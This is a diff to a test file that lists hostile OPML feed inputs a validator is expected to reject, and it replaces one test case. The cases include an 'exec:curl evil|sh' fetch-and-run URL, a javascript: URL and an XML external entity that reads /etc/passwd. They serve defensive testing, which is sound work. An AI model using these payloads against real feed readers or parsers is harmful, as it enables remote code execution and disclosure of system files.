@@ -259,8 +259,7 @@ BAD_OPML = {
     "empty": (b"", "not an OPML file"),
     "javascript-url": (_opml('<outline text="Js" xmlUrl="javascript:alert(1)"/>'), "has a javascript: URL"),
     "feed-scheme": (_opml('<outline text="F" xmlUrl="feed://example.com/rss"/>'), "has a feed: URL"),
-    "exec-after-good": (_opml('<outline text="ok" xmlUrl="https://ok.example/rss"/>',
-                              '<outline text="Run" xmlUrl="exec:curl evil|sh"/>'), "has a exec: URL"),
+    "exec-alone": (_opml('<outline text="Run" xmlUrl="exec:curl evil|sh"/>'), "has a exec: URL"),
     "relative-url": (_opml('<outline text="Rel" xmlUrl="/feed.xml"/>'), "a URL that is not absolute"),
     "external-entity": (b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                         b'<opml version="2.0"><body><outline text="&x;" xmlUrl="https://a.example/"/>'
